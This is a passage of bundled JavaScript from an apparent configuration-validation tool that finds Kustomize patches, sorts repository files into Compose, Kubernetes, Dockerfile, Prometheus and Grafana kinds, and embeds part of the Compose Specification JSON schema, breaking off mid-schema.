 * kustomization's directory. Inline patches (a `patch:` string, or a multi-line string entry of
 * `patchesStrategicMerge`) name no file.
 */
function findKustomizePatches(kustomizations) {
    const patches = new Set();
    for (const k of kustomizations) {
        for (const doc of (0, yaml_tree_1.parseYaml)(k.path, k.text).documents) {
            if (!doc.root || doc.root.kind !== 'map')
                continue;
            const value = (0, yaml_tree_1.toPlain)(doc.root);
            for (const ref of patchReferences(value)) {
                const resolved = resolveKustomizeReference(k.path, ref);
                if (!resolved.startsWith('../'))
                    patches.add(resolved);
            }
        }
    }
    return patches;
}
/**
 * The kustomization files no other kustomization includes (through `resources`, `bases` or
 * `components`): the overlays a user builds. A base included by an overlay is built with it; a
 * Component is built only into a kustomization that names it.
 */
function findKustomizeRoots(kustomizations) {
    const included = new Set();
    const components = new Set();
    for (const k of kustomizations) {
        for (const doc of (0, yaml_tree_1.parseYaml)(k.path, k.text).documents) {
            if (!doc.root || doc.root.kind !== 'map')
                continue;
            const value = (0, yaml_tree_1.toPlain)(doc.root);
            if (value.kind === 'Component')
                components.add(k.path);
            for (const key of ['resources', 'bases', 'components']) {
                for (const entry of Array.isArray(value[key]) ? value[key] : []) {
                    if (typeof entry === 'string')
                        included.add(resolveKustomizeReference(k.path, entry));
                }
            }
        }
    }
    return kustomizations.map((k) => k.path).filter((file) => !components.has(file) && !included.has(dirOf(file) || '.'));
}
function patchReferences(kustomization) {
    const refs = [];
    const list = (key) => (Array.isArray(kustomization[key]) ? kustomization[key] : []);
    for (const entry of list('patchesStrategicMerge')) {
        if (isFileReference(entry))
            refs.push(entry.trim());
    }
    for (const key of ['patches', 'patchesJson6902']) {
        for (const entry of list(key)) {
            if (isFileReference(entry))
                refs.push(entry.trim());
            else if (entry && typeof entry === 'object' && typeof entry.path === 'string') {
                refs.push(entry.path.trim());
            }
        }
    }
    return refs.filter((r) => r && !/^[a-z][a-z0-9+.-]*:\/\//i.test(r));
}
/** A list entry that names a file, not an inline patch (YAML text: several lines, or a `key: value`). */
function isFileReference(entry) {
    return typeof entry === 'string' && !entry.includes('\n') && !/:\s|^\s*[{[]/.test(entry);
}
/** A path a kustomization file names (`resources`, `patches`, `components`), repository-relative, without a trailing slash. */
function resolveKustomizeReference(kustomizationFile, ref) {
    const dir = dirOf(kustomizationFile);
    return node_path_1.default.posix.normalize(dir ? `${dir}/${ref}` : ref).replace(/\/$/, '');
}
function dirOf(file) {
    const dir = node_path_1.default.posix.dirname(file);
    return dir === '.' ? '' : dir;
}


/***/ }),

/***/ 6936:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.loadWorkspace = loadWorkspace;
exports.listWorkspaceFiles = listWorkspaceFiles;
exports.buildWorkspace = buildWorkspace;
exports.readText = readText;
exports.parsedYaml = parsedYaml;
exports.toKubernetesObject = toKubernetesObject;
/**
 * The loaded repository: every candidate file read once, YAML/JSON parsed once, and each document
 * recognised by name and by content (a document with apiVersion + kind is a Kubernetes manifest
 * wherever it lives; a top-level `services:` map of services is a Compose file).
 */
const node_fs_1 = __importDefault(__webpack_require__(73024));
const node_path_1 = __importDefault(__webpack_require__(76760));
const decode_text_1 = __webpack_require__(84147);
const discover_1 = __webpack_require__(23866);
const layout_1 = __webpack_require__(52483);
const yaml_tree_1 = __webpack_require__(43183);
const compose_spec_schema_json_1 = __importDefault(__webpack_require__(14766));
const display_value_1 = __webpack_require__(42785);
const incomplete_manifest_1 = __webpack_require__(7790);
const COMPOSE_NAME = /^(docker-)?compose([.-][\w.-]+)?\.ya?ml$/i;
const DOCKERFILE_NAME = /^(dockerfile|containerfile)([.-][\w.-]+)?$|\.(dockerfile|containerfile)$/i;
const RULES_NAME = /(^|[._-])(rules?|alerts?|alerting|recording)([._-][\w.-]*)?\.ya?ml$|\.rules(\.ya?ml)?$/i;
const PROM_CONFIG_NAME = /^prometheus([.-][\w.-]+)?\.ya?ml$/i;
function loadWorkspace(options) {
    return buildWorkspace(listWorkspaceFiles(options), options);
}
/** Lists and reads the files under the options' include, exclude and size limit, and finds the Helm charts and Kustomize patches among them. */
function listWorkspaceFiles(options) {
    const { files, problems, paths } = (0, discover_1.discoverFiles)({ ...options, skipVendoredDependencies: true });
    const layout = {
        helmCharts: (0, layout_1.findHelmCharts)(paths),
        kustomizePatches: (0, layout_1.findKustomizePatches)(files.filter((f) => (0, layout_1.isKustomizationFile)(f.path))),
    };
    return { root: options.root, files, paths, problems, layout };
}
/** Parses the files (those not parsed already) and recognises each document, file by file in order. */
function buildWorkspace(listed, options = {}) {
    const ws = {
        root: node_path_1.default.resolve(listed.root),
        files: new Map(listed.files.map((f) => [f.path, f])),
        paths: listed.paths,
        parsed: new Map(),
        kinds: new Map(),
        composeFiles: [],
        dockerfiles: [],
        kubernetes: [],
        prometheusRules: [],
        prometheusConfigs: [],
        dashboards: [],
        problems: listed.problems.flatMap((p) => p.code === 'binary' ? [] : [{ file: p.path, line: 1, column: 1, code: p.code, message: p.message }]),
        layout: listed.layout,
    };
    const parse = (file) => options.parsed?.get(file.path) ?? (0, yaml_tree_1.parseYaml)(file.path, file.text, { maxAliasNodes: options.maxAliasNodes });
    for (const file of listed.files) {
        const alone = options.classified?.get(file.path);
        if (alone)
            addClassified(ws, alone);
        else
            classifyFile(ws, file, parse);
    }
    return ws;
}
/** Adds a file recognised alone: the same as recognising it here, since recognising a file adds to the workspace for that file only. */
function addClassified(ws, one) {
    for (const [file, parsed] of one.parsed)
        ws.parsed.set(file, parsed);
    for (const [file, kinds] of one.kinds)
        ws.kinds.set(file, kinds);
    ws.composeFiles.push(...one.composeFiles);
    ws.dockerfiles.push(...one.dockerfiles);
    ws.kubernetes.push(...one.kubernetes);
    ws.prometheusRules.push(...one.prometheusRules);
    ws.prometheusConfigs.push(...one.prometheusConfigs);
    ws.dashboards.push(...one.dashboards);
    ws.problems.push(...one.problems);
}
const MAX_OTHER_FILE_BYTES = 1024 * 1024;
const otherTexts = new WeakMap();
/**
 * The text of any repository file (README, runbooks, workflows, scripts): validated files come
 * from memory, others are read once on demand. Undefined for files that are missing, ignored,
 * binary or over 1 MiB.
 */
function readText(ws, file) {
    const known = ws.files.get(file);
    if (known)
        return known.text;
    let cache = otherTexts.get(ws);
    if (!cache)
        otherTexts.set(ws, (cache = { paths: new Set(ws.paths), texts: new Map() }));
    if (cache.texts.has(file))
        return cache.texts.get(file);
    let text;
    if (cache.paths.has(file)) {
        try {
            const abs = node_path_1.default.join(ws.root, file);
            if (node_fs_1.default.statSync(abs).size <= MAX_OTHER_FILE_BYTES) {
                text = (0, decode_text_1.decodeText)(node_fs_1.default.readFileSync(abs));
            }
        }
        catch {
            text = undefined;
        }
    }
    cache.texts.set(file, text);
    return text;
}
/** A repository YAML or JSON file parsed with positions: the validated ones are already, others are parsed once. */
function parsedYaml(ws, file) {
    const known = ws.parsed.get(file);
    if (known)
        return known;
    const text = readText(ws, file);
    if (text === undefined)
        return undefined;
    const parsed = (0, yaml_tree_1.parseYaml)(file, text);
    ws.parsed.set(file, parsed);
    return parsed;
}
/** A Go template action at the start of a line: `{{- if`, `{{ range`, `{{ include`, `{{ .Values`, `{{ $x :=`, a template comment; or an unquoted value `key: {{ .Values.x }}`. */
const GO_TEMPLATE_ACTION = /^[ \t-]*\{\{-?\s*(?:if|range|with|include|define|template|end|else|tpl|toYaml|\/\*|\.|\$)|:[ \t]+\{\{-?\s*[.$]/m;
/** Whether a YAML file inside a Helm chart (not its Chart.yaml or values files) holds Go template actions. */
function isChartFileTemplate(ws, file) {
    if (!/\.ya?ml$/i.test(file.path) || /(^|\/)(Chart|values[\w.-]*)\.ya?ml$/i.test(file.path))
        return false;
    if (!ws.layout.helmCharts.some((c) => c.dir === '' || file.path.startsWith(`${c.dir}/`)))
        return false;
    return GO_TEMPLATE_ACTION.test(file.text);
}
function mark(ws, file, kind) {
    let set = ws.kinds.get(file);
    if (!set)
        ws.kinds.set(file, (set = new Set()));
    set.add(kind);
}
function classifyFile(ws, file, parse) {
    // A Helm template is Go template text, not YAML: validate renders its chart with helm when it can.
    if ((0, layout_1.helmChartOfTemplate)(ws.layout.helmCharts, file.path))
        return;
    // So is an Ansible role's template (Jinja2), rendered by Ansible on the host it configures.
    if ((0, layout_1.isAnsibleRoleTemplate)(file.path))
        return;
    const base = node_path_1.default.posix.basename(file.path);
    const lower = base.toLowerCase();
    // Dockerfile.dockerignore is BuildKit's ignore file for that Dockerfile: neither a Dockerfile nor YAML.
    if (/\.(dockerignore|containerignore)$/i.test(base))
        return;
    if (DOCKERFILE_NAME.test(base)) {
        ws.dockerfiles.push(file.path);
        mark(ws, file.path, 'dockerfile');
        return;
    }
    // A chart's other files with Go template actions (CRDs or configs it loads through .Files.Get and tpl) are templates too.
    if (isChartFileTemplate(ws, file))
        return;
    if (lower === '.env' || lower.endsWith('.env')) {
        mark(ws, file.path, 'env');
        return;
    }
    const isJson = lower.endsWith('.json');
    // A workflow or any file under .github/ is never a Compose file, whatever its name (compose-smoke.yml).
    const byComposeName = COMPOSE_NAME.test(base) && !file.path.startsWith('.github/');
    // JSON files are read only when they look like dashboards; avoid parsing package.json and friends.
    if (isJson && !/"panels"\s*:/.test(file.text))
        return;
    const parsed = parse(file);
    ws.parsed.set(file.path, parsed);
    for (const p of parsed.problems)
        ws.problems.push({ file: file.path, line: p.line, column: p.column, code: p.code, message: p.message });
    const docs = parsed.documents.filter((d) => d.root);
    if (byComposeName) {
        ws.composeFiles.push(file.path);
        mark(ws, file.path, 'compose');
        if (!docs.length && !parsed.problems.length) {
            ws.problems.push({ file: file.path, line: 1, column: 1, code: 'empty', message: 'Compose file is empty' });
        }
        return;
    }
    if (!docs.length) {
        if (!parsed.problems.length && !file.text.trim() && /\.ya?ml$/.test(lower) && RULES_NAME.test(base)) {
            ws.problems.push({ file: file.path, line: 1, column: 1, code: 'empty', message: 'file is empty' });
        }
        return;
    }
    for (const doc of parsed.documents) {
        const root = doc.root;
        if (!root || root.kind !== 'map')
            continue;
        const value = (0, yaml_tree_1.toPlain)(root);
        if (isJson) {
            const dash = (0, yaml_tree_1.getNode)(root, ['dashboard']);
            if (Array.isArray(value.panels) || (dash?.kind === 'map' && Array.isArray(value.dashboard.panels))) {
                const basePath = Array.isArray(value.panels) ? [] : ['dashboard'];
                ws.dashboards.push({ file: file.path, root: basePath.length ? dash : root, basePath });
                mark(ws, file.path, 'grafana-dashboard');
            }
            continue;
        }
        const incomplete = (0, incomplete_manifest_1.incompleteManifest)(root);
        if (incomplete) {
            ws.problems.push({ file: file.path, line: incomplete.loc.line, column: incomplete.loc.column, code: 'incomplete-manifest', message: incomplete.message });
            continue;
        }
        if (typeof value.apiVersion === 'string' && typeof value.kind === 'string') {
            // A Kustomize patch is a fragment merged into a resource, not an object of its own.
            if (ws.layout.kustomizePatches.has(file.path))
                continue;
            // `kind: List` (and `*List`, as `kubectl get -o yaml` writes) carries its objects in items.
            const items = (0, yaml_tree_1.getNode)(root, ['items']);
            if (value.kind.endsWith('List') && items?.kind === 'seq') {
                items.items.forEach((item) => {
                    const itemValue = (0, yaml_tree_1.toPlain)(item);
                    if (item.kind === 'map' && typeof itemValue.apiVersion === 'string' && typeof itemValue.kind === 'string') {
                        ws.kubernetes.push(toKubernetesObject(file.path, doc.index, item, itemValue));
                    }
                });
                mark(ws, file.path, 'kubernetes');
                continue;
            }
            const obj = toKubernetesObject(file.path, doc.index, root, value);
            ws.kubernetes.push(obj);
            mark(ws, file.path, 'kubernetes');
            if (obj.kind === 'PrometheusRule') {
                const spec = (0, yaml_tree_1.getNode)(root, ['spec']);
                if (spec) {
                    ws.prometheusRules.push({ file: file.path, root: spec, basePath: ['spec'] });
                    mark(ws, file.path, 'prometheus-rules');
                }
            }
            continue;
        }
        if (isServicesMap(value.services) && hasComposeServices(value.services)) {
            if (!ws.composeFiles.includes(file.path))
                ws.composeFiles.push(file.path);
            mark(ws, file.path, 'compose');
            continue;
        }
        // Rule files by content, or by name (alerts.yml, *.rules.yml) when `groups` is there but malformed.
        // Grafana's alerting provisioning files also hold `groups` of `rules`; their top-level `apiVersion`
        // (and each group's orgId/folder) tells them apart: a Prometheus rule file has neither.
        if (isGrafanaProvisioning(value))
            continue;
        if ((Array.isArray(value.groups) && value.groups.some((g) => g && typeof g === 'object' && 'rules' in g)) || (RULES_NAME.test(base) && 'groups' in value)) {
            ws.prometheusRules.push({ file: file.path, root, basePath: [] });
            mark(ws, file.path, 'prometheus-rules');
            continue;
        }
        // Promtail and the Grafana agent also have scrape_configs; their clients/positions/server keys tell them apart.
        const isPromtail = 'clients' in value || 'positions' in value || 'server' in value;
        if (!isPromtail && ('scrape_configs' in value || (PROM_CONFIG_NAME.test(base) && ('global' in value || 'rule_files' in value)))) {
            ws.prometheusConfigs.push({ file: file.path, root, basePath: [] });
            mark(ws, file.path, 'prometheus-config');
        }
    }
}
/** A Grafana provisioning file (alerting, datasources, dashboards): `apiVersion: 1` at the top, alert rule groups with `orgId` or `folder`. */
function isGrafanaProvisioning(value) {
    if ('apiVersion' in value && !('kind' in value))
        return true;
    return Array.isArray(value.groups) && value.groups.some((g) => g !== null && typeof g === 'object' && ('folder' in g || 'orgId' in g));
}
/** The service attributes of the Compose Specification (the schema compose/schema checks files against). */
const COMPOSE_SERVICE_KEYS = new Set(Object.keys(compose_spec_schema_json_1.default.definitions.service.properties));
/**
 * Whether a `services:` map holds Compose services: one of them has an attribute of the Compose
 * specification. The Azure Developer CLI's azure.yaml also has `services:` of maps, with `project`,
 * `language` and `host`, and is not Compose.
 */
function hasComposeServices(services) {
    const entries = Object.values(services);
    return entries.some((s) => s === null || (typeof s === 'object' && Object.keys(s).some((k) => COMPOSE_SERVICE_KEYS.has(k) || k.startsWith('x-'))));
}
function isServicesMap(v) {
    if (!v || typeof v !== 'object' || Array.isArray(v))
        return false;
    const entries = Object.values(v);
    return entries.length > 0 && entries.every((s) => s === null || (typeof s === 'object' && !Array.isArray(s)));
}
function toKubernetesObject(file, docIndex, root, value) {
    const meta = (value.metadata && typeof value.metadata === 'object' ? value.metadata : {});
    return {
        file,
        docIndex,
        apiVersion: String(value.apiVersion),
        kind: String(value.kind),
        name: (0, display_value_1.scalarText)(meta.name) ?? (typeof meta.generateName === 'string' ? `${meta.generateName}*` : '(unnamed)'),
        namespace: typeof meta.namespace === 'string' ? meta.namespace : undefined,
        root,
        value,
        loc: root.loc,
    };
}


/***/ }),

/***/ 14766:
/***/ ((module) => {

module.exports = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/draft-07/schema","$id":"compose_spec.json","type":"object","title":"Compose Specification","description":"The Compose file is a YAML file defining a multi-containers based application.","properties":{"version":{"type":"string","deprecated":true,"description":"declared for backward compatibility, ignored. Please remove it."},"name":{"type":"string","description":"define the Compose project name, until user defines one explicitly."},"include":{"type":"array","items":{"$ref":"#/definitions/include"},"description":"compose sub-projects to be included."},"services":{"type":"object","patternProperties":{"^[a-zA-Z0-9._-]+$":{"$ref":"#/definitions/service"}},"additionalProperties":false,"description":"The services that will be used by your application."},"models":{"type":"object","patternProperties":{"^[a-zA-Z0-9._-]+$":{"$ref":"#/definitions/model"}},"description":"Language models that will be used by your application."},"networks":{"type":"object","patternProperties":{"^[a-zA-Z0-9._-]+$":{"$ref":"#/definitions/network"}},"description":"Networks that are shared among multiple services."},"volumes":{"type":"object","patternProperties":{"^[a-zA-Z0-9._-]+$":{"$ref":"#/definitions/volume"}},"additionalProperties":false,"description":"Named volumes that are shared among multiple services."},"secrets":{"type":"object","patternProperties":{"^[a-zA-Z0-9._-]+$":{"$ref":"#/definitions/secret"}},"additionalProperties":false,"description":"Secrets that are shared among multiple services."},"configs":{"type":"object","patternProperties":{"^[a-zA-Z0-9._-]+$":{"$ref":"#/definitions/config"}},"additionalProperties":false,"description":"Configurations that are shared among multiple services."}},"patternProperties":{"^x-":{}},"additionalProperties":false,"definitions":{"service":{"type":"object","description":"Configuration for a service.","properties":{"develop":{"$ref":"#/definitions/development"},"deploy":{"$ref":"#/definitions/deployment"},"annotations":{"$ref":"#/definitions/list_or_dict"},"attach":{"type":["boolean","string"]},"build":{"description":"Configuration options for building the service\'s image.","oneOf":[{"type":"string","description":"Path to the build context. Can be a relative path or a URL."},{"type":"object","properties":{"context":{"type":"string","description":"Path to the build context. Can be a relative path or a URL."},"dockerfile":{"type":"string","description":"Name of the Dockerfile to use for building the image."},"dockerfile_inline":{"type":"string","description":"Inline Dockerfile content to use instead of a Dockerfile from the build context."},"entitlements":{"type":"array","items":{"type":"string"},"description":"List of extra privileged entitlements to grant to the build process."},"args":{"$ref":"#/definitions/list_or_dict","description":"Build-time variables, specified as a map or a list of KEY=VAL pairs."},"ssh":{"$ref":"#/definitions/list_or_dict","description":"SSH agent socket or keys to expose to the build. Format is either a string or a list of \'default|<id>[=<socket>|<key>[,<key>]]\'."},"labels":{"$ref":"#/definitions/list_or_dict","description":"Labels to apply to the built image."},"cache_from":{"type":"array","items":{"type":"string"},"description":"List of sources the image builder should use for cache resolution"},"cache_to":{"type":"array","items":{"type":"string"},"description":"Cache destinations for the build cache."},"no_cache":{"type":["boolean","string"],"description":"Do not use cache when building the image."},"additional_contexts":{"$ref":"#/definitions/list_or_dict","description":"Additional build contexts to use, specified as a map of name to context path or URL."},"network":{"type":"string","description":"Network mode to use for the build. Options include \'default\', \'none\', \'host\', or a network name."},"pull":{"type":["boolean","string"],"description":"Always attempt to pull a newer version of the image."},"target":{"type":"string","description":"Build stage to target in a multi-stage Dockerfile."},"shm_size":{"type":["integer","string"],"description":"Size of /dev/shm for the build container. A string value can use suffix like \'2g\' for 2 gigabytes."},"extra_hosts":{"$ref":"#/definitions/extra_hosts","description":"Add hostname mappings for the build container."},"isolation":{"type":"string","description":"Container isolation technology to use for the build process."},"privileged":{"type":["boolean","string"],"description":"Give extended privileges to the build container."},"secrets":{"$ref":"#/definitions/service_config_or_secret","description":"Secrets to expose to the build. These are accessible at build-time."},"tags":{"type":"array","items":{"type":"string"},"description":"Additional tags to apply to the built image."},"ulimits":{"$ref":"#/definitions/ulimits","description":"Override the default ulimits for the build container."},"platforms":{"type":"array","items":{"type":"string"},"description":"Platforms to build for, e.g., \'linux/amd64\', \'linux/arm64\', or \'windows/amd64\'."}},"additionalProperties":false,"patternProperties":{"^x-":{}}}]},"blkio_config":{"type":"object","description":"Block IO configuration for the service.","properties":{"device_read_bps":{"type":"array","description":"Limit read rate (bytes per second) from a device.","items":{"$ref":"#/definitions/blkio_limit"}},"device_read_iops":{"type":"array","description":"Limit read rate (IO per second) from a device.","items":{"$ref":"#/definitions/blkio_limit"}},"device_write_bps":{"type":"array","description":"Limit write rate (bytes per second) to a device.","items":{"$ref":"#/definitions/blkio_limit"}},"device_write_iops":{"type":"array","description":"Limit write rate (IO per second) to a device.","items":{"$ref":"#/definitions/blkio_limit"}},"weight":{"type":["integer","string"],"description":"Block IO weight (relative weight) for the service, between 10 and 1000."},"weight_device":{"type":"array","description":"Block IO weight (relative weight) for specific devices.","items":{"$ref":"#/definitions/blkio_weight"}}},"additionalProperties":false},"cap_add":{"type":"array","items":{"type":"string"},"uniqueItems":true,"description":"Add Linux capabilities. For example, \'CAP_SYS_ADMIN\', \'SYS_ADMIN\', or \'NET_ADMIN\'."},"cap_drop":{"type":"array","items":{"type":"string"},"uniqueItems":true,"description":"Drop Linux capabilities. For example, \'CAP_SYS_ADMIN\', \'SYS_ADMIN\', or \'NET_ADMIN\'."},"cgroup":{"type":"string","enum":["host","private"],"description":"Specify the cgroup namespace to join. Use \'host\' to use the host\'s cgroup namespace, or \'private\' to use a private cgroup namespace."},"cgroup_parent":{"type":"string","description":"Specify an optional parent cgroup for the container."},"command":{"$ref":"#/definitions/command","description":"Override the default command declared by the container image, for example \'CMD\' in Dockerfile."},"configs":{"$ref":"#/definitions/service_config_or_secret","description":"Grant access to Configs on a per-service basis."},"container_name":{"type":"string","description":"Specify a custom container name, rather than a generated default name.","pattern":"[a-zA-Z0-9][a-zA-Z0-9_.-]+"},"cpu_count":{"oneOf":[{"type":"string"},{"type":"integer","minimum":0}],"description":"Number of usable CPUs."},"cpu_percent":{"oneOf":[{"type":"string"},{"type":"integer","minimum":0,"maximum":100}],"description":"Percentage of CPU resources to use."},"cpu_shares":{"type":["number","string"],"description":"CPU shares (relative weight) for the container."},"cpu_quota":{"type":["number","string"],"description":"Limit the CPU CFS (Completely Fair Scheduler) quota."},"cpu_period":{"type":["number","string"],"description":"Limit the CPU CFS (Completely Fair Scheduler) period."},"cpu_rt_period":{"type":["number","string"],"description":"Limit the CPU real-time period in microseconds or a duration."},"cpu_rt_runtime":{"type":["number","string"],"description":"Limit the CPU real-time runtime in microseconds or a duration."},"cpus":{"type":["number","string"],"description":"Number of CPUs to use. A floating-point value is supported to request partial CPUs."},"cpuset":{"type":"string","description":"CPUs in which to allow execution (0-3, 0,1)."},"credential_spec":{"type":"object","description":"Configure the credential spec for managed service account.","properties":{"config":{"type":"string","description":"The name of the credential spec Config to use."},"file":{"type":"string","description":"Path to a credential spec file."},"registry":{"type":"string","description":"Path to a credential spec in the Windows registry."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"depends_on":{"oneOf":[{"$ref":"#/definitions/list_of_strings"},{"type":"object","additionalProperties":false,"patternProperties":{"^[a-zA-Z0-9._-]+$":{"type":"object","additionalProperties":false,"patternProperties":{"^x-":{}},"properties":{"restart":{"type":["boolean","string"],"description":"Whether to restart dependent services when this service is restarted."},"required":{"type":"boolean","default":true,"description":"Whether the dependency is required for the dependent service to start."},"condition":{"type":"string","enum":["service_started","service_healthy","service_completed_successfully"],"description":"Condition to wait for. \'service_started\' waits until the service has started, \'service_healthy\' waits until the service is healthy (as defined by its healthcheck), \'service_completed_successfully\' waits until the service has completed successfully."}},"required":["condition"]}}}],"description":"Express dependency between services. Service dependencies cause services to be started in dependency order. The dependent service will wait for the dependency to be ready before starting."},"device_cgroup_rules":{"$ref":"#/definitions/list_of_strings","description":"Add rules to the cgroup allowed devices list."},"devices":{"type":"array","description":"List of device mappings for the container.","items":{"oneOf":[{"type":"string"},{"type":"object","required":["source"],"properties":{"source":{"type":"string","description":"Path on the host to the device."},"target":{"type":"string","description":"Path in the container where the device will be mapped."},"permissions":{"type":"string","description":"Cgroup permissions for the device (rwm)."}},"additionalProperties":false,"patternProperties":{"^x-":{}}}]}},"dns":{"$ref":"#/definitions/string_or_list","description":"Custom DNS servers to set for the service container."},"dns_opt":{"type":"array","items":{"type":"string"},"uniqueItems":true,"description":"Custom DNS options to be passed to the container\'s DNS resolver."},"dns_search":{"$ref":"#/definitions/string_or_list","description":"Custom DNS search domains to set on the service container."},"domainname":{"type":"string","description":"Custom domain name to use for the service container."},"entrypoint":{"$ref":"#/definitions/command","description":"Override the default entrypoint declared by the container image, for example \'ENTRYPOINT\' in Dockerfile."},"env_file":{"$ref":"#/definitions/env_file","description":"Add environment variables from a file or multiple files. Can be a single file path or a list of file paths."},"label_file":{"$ref":"#/definitions/label_file","description":"Add metadata to containers using files containing Docker labels."},"environment":{"$ref":"#/definitions/list_or_dict","description":"Add environment variables. You can use either an array or a list of KEY=VAL pairs."},"expose":{"type":"array","items":{"type":["string","number"]},"uniqueItems":true,"description":"Expose ports without publishing them to the host machine - they\'ll only be accessible to linked services."},"extends":{"oneOf":[{"type":"string"},{"type":"object","properties":{"service":{"type":"string","description":"The name of the service to extend."},"file":{"type":"string","description":"The file path where the service to extend is defined."}},"required":["service"],"additionalProperties":false}],"description":"Extend another service, in the current file or another file."},"provider":{"type":"object","description":"Specify a service which will not be manage by Compose directly, and delegate its management to an external provider.","required":["type"],"properties":{"type":{"type":"string","description":"External component used by Compose to manage setup and teardown lifecycle of the service."},"options":{"type":"object","description":"Provider-specific options.","patternProperties":{"^.+$":{"oneOf":[{"type":["string","number","boolean"]},{"type":"array","items":{"type":["string","number","boolean"]}}]}}}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"external_links":{"type":"array","items":{"type":"string"},"uniqueItems":true,"description":"Link to services started outside this Compose application. Specify services as <service_name>:<alias>."},"extra_hosts":{"$ref":"#/definitions/extra_hosts","description":"Add hostname mappings to the container network interface configuration."},"gpus":{"$ref":"#/definitions/gpus","description":"Define GPU devices to use. Can be set to \'all\' to use all GPUs, or a list of specific GPU devices."},"group_add":{"type":"array","items":{"type":["string","number"]},"uniqueItems":true,"description":"Add additional groups which user inside the container should be member of."},"healthcheck":{"$ref":"#/definitions/healthcheck","description":"Configure a health check for the container to monitor its health status."},"hostname":{"type":"string","description":"Define a custom hostname for the service container."},"image":{"type":"string","description":"Specify the image to start the container from. Can be a repository/tag, a digest, or a local image ID."},"init":{"type":["boolean","string"],"description":"Run as an init process inside the container that forwards signals and reaps processes."},"ipc":{"type":"string","description":"IPC sharing mode for the service container. Use \'host\' to share the host\'s IPC namespace, \'service:[service_name]\' to share with another service, or \'shareable\' to allow other services to share this service\'s IPC namespace."},"isolation":{"type":"string","description":"Container isolation technology to use. Supported values are platform-specific."},"labels":{"$ref":"#/definitions/list_or_dict","description":"Add metadata to containers using Docker labels. You can use either an array or a list."},"links":{"type":"array","items":{"type":"string"},"uniqueItems":true,"description":"Link to containers in another service. Either specify both the service name and a link alias (SERVICE:ALIAS), or just the service name."},"logging":{"type":"object","description":"Logging configuration for the service.","properties":{"driver":{"type":"string","description":"Logging driver to use, such as \'json-file\', \'syslog\', \'journald\', etc."},"options":{"type":"object","description":"Options for the logging driver.","patternProperties":{"^.+$":{"type":["string","number","null"]}}}},"additionalProperties":false,"patternProperties":{"^x-":{}}},"mac_address":{"type":"string","description":"Container MAC address to set."},"mem_limit":{"type":["number","string"],"description":"Memory limit for the container. A string value can use suffix like \'2g\' for 2 gigabytes."},"mem_reservation":{"type":["string","integer"],"description":"Memory reservation for the container."},"mem_swappiness":{"type":["integer","string"],"description":"Container memory swappiness as percentage (0 to 100)."},"memswap_limit":{"type":["number","string"],"description":"Amount of memory the container is allowed to swap to disk. Set to -1 to enable unlimited swap."},"network_mode":{"type":"string","description":"Network mode. Values can be \'bridge\', \'host\', \'none\', \'service:[service name]\', or \'container:[container name]\'."},"models":{"oneOf":[{"$ref":"#/definitions/list_of_strings"},{"type":"object","patternProperties":{"^[a-zA-Z0-9._-]+$":{"type":"object","properties":{"endpoint_var":{"type":"string","description":"Environment variable set to AI model endpoint."},"model_var":{"type":"string","description":"Environment variable set to AI model name."}},"additionalProperties":false,"patternProperties":{"^x-":{}}}}}],"description":"AI Models to use, referencing entries under the top-level models key."},"networks":{"oneOf":[{"$ref":"#/definitions/list_of_strings"},{"type":"object","patternProperties":{"^[a-zA-Z0-9._-]+$":{"oneOf":[{"type":"object","properties":{"aliases":{"$ref":"#/definitions/list_of_strings","description":"Alternative hostnames for this service on the network."},"interface_name":{"type":"string","description":"Interface network name used to connect to network"},"ipv4_address":{"type":"string","description":"Specify a static IPv4 address for this service on this network."},"ipv6_address":{"type":"string","description":"Specify a static IPv6 address for this service on this network."},"link_local_ips":{"$ref":"#/definitions/list_of_strings","description":"List of link-local IPs."},"mac_address":{"type":"string","description":"Specify a MAC address for this service on this network."},"driver_opts":{"type":"object","description":"Driver options for this network.","patternProperties":{"^.+$":{"type":["string","number"]}}},"priority":{"type":"number","description":"Specify the priority for the network connection."},"gw_priority":{"type":"number","description":"Specify the gateway priority for the network connection."}},"additionalProperties":false,"patternProperties":{"^x-":{}}},{"type":"null"}]}},"additionalProperties":false}],"description":"Networks to join, referencing entries under the top-level networks key. Can be a list of network names or a mapping of network name to network configuration."},"oom_kill_disable":{"type":["boolean","string"],"description":"Disable OOM Killer for the container."},"oom_score_adj":{"oneOf":[{"type":"string"},{"type":"integer","minimum":-1000,"maximum":1000}],"description":"Tune host\'s OOM preferences for the container (accepts -1000 to 1000)."},"pid":{"type":["string","null"],"description":"PID mode for container."},"pids_limit":{"type":["number","string"],"description":"Tune a container\'s PIDs limit. Set to -1 for unlimited PIDs."},"platform":{"type":"string","description":"Target platform to run on, e.g., \'linux/amd64\', \'linux/arm64\', or \'windows/amd64\'."},"ports":{"type":"array","description":"Expose container ports. Short format ([HOST:]CONTAINER[/PROTOCOL]).","items":{"oneOf":[{"type":"number"},{"type":"string"},{"type":"object","properties":{"name":{"type":"string","description":"A human-readable name for this port mapping."},"mode":{"type":"string","description":"The port binding mode, either \'host\' for publishing a host port or \'ingress\' for load balancing."},"host_ip":{"type":"string","description":"The host IP to bind to."},"target":{"type":["integer","string"],"description":"The port inside the container."},"published":{"type":["string","integer"],"description":"The publicly exposed port."},"protocol":{"type":"string","description":"The port protocol (tcp or udp)."},"app_protocol":{"type":"string","description":"Application protocol to use with the port (e.g., http, https, mysql)."}},"additionalProperties":false,"patternProperties":{"^x-":{}}}]},"uniqueItems":true},"post_start":{"type":"array","items":{"$ref":"#/definitions/service_hook"},"description":"Commands to run after the container starts. If any command fails, the container stops."},"pre_stop":{"type":"array","items":{"$ref":"#/definitions/service_hook"},"description":"Commands to run before the container stops. If any command fails, the container stop is aborted."},"privileged":{"type":["boolean","string"],"description":"Give extended privileges to the service container."},"profiles":{"$ref":"#/definitions/list_of_strings","description":"List of profiles for this service. When profiles are specified, services are only started when the profile is activated."},"pull_policy":{"type":"string","pattern":"always|never|build|if_not_present|missing|refresh|daily|weekly|every_([0-9]+[wdhms])+","description":"Policy for pulling images. Options include: \'always\', \'never\', \'if_not_present\', \'missing\', \'build\', or time-based refresh policies."},"pull_refresh_after":{"type":"string","description":"Time after which to refresh the image. Used with pull_policy=refresh."},"read_only":{"type":["boolean","string"],"description":"Mount the container\'s filesystem as read 